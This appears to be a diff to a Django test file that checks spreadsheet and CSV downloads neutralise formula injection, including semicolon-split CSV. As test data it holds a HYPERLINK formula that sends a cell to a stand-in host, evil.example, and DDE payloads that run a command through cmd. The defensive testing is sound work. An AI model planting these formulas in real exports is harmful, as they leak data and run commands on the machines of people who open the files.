@@ -15,7 +15,7 @@ from tests.factories import UserFactory
 
 pytestmark = pytest.mark.django_db
 
-FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите");=cmd|"/C calc"!A0'
 FORMULA_OPTIONS = ["=1+2", "+7 (495) на связи", "-2+3", "@SUM(A1:A2)", "\tтаб", "\rвозврат"]
 # Characters XML can't hold; they are left out of workbooks, which stay readable.
 UNWRITABLE_OPTION = "Нет\ufffeсимвола\uffff\x01"
@@ -34,6 +34,11 @@ TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
         ("'=x", "''=x"),  # written so, it reads back so
         ("''+7", "'''+7"),
         ("'quoted'", "'quoted'"),
+        # Spreadsheets set up for Russian split CSV files at «;».
+        ("Тобольский центр;=cmd|' /C calc'!A0;", "Тобольский центр;'=cmd|' /C calc'!A0;"),
+        ("Обучение; -1 место", "Обучение; '-1 место"),
+        (" =1+2", " '=1+2"),
+        ("\x0b=1+2", "\x0b'=1+2"),
         ("Обучение", "Обучение"),
         ("a=b", "a=b"),
         ("", ""),
@@ -104,9 +109,10 @@ def test_every_download_neutralises_formulas(hostile, staff):
             texts += [text.replace("\n", "\r") for text in texts]
         else:
             texts = csv_cells(response)
-        assert not [text for text in texts if text.startswith(TRIGGERS)], name
+        parts = [part.lstrip(" ") for text in texts for part in text.split(";")]
+        assert not [part for part in parts if part.startswith(TRIGGERS)], name
         if name == "registry csv":
-            assert "'" + FORMULA_NAME in texts
+            assert "'" + FORMULA_NAME.replace(";=", ";'=") in texts
         elif name.startswith("results"):
             assert {"'" + text for text in FORMULA_OPTIONS} <= set(texts), name
         else:
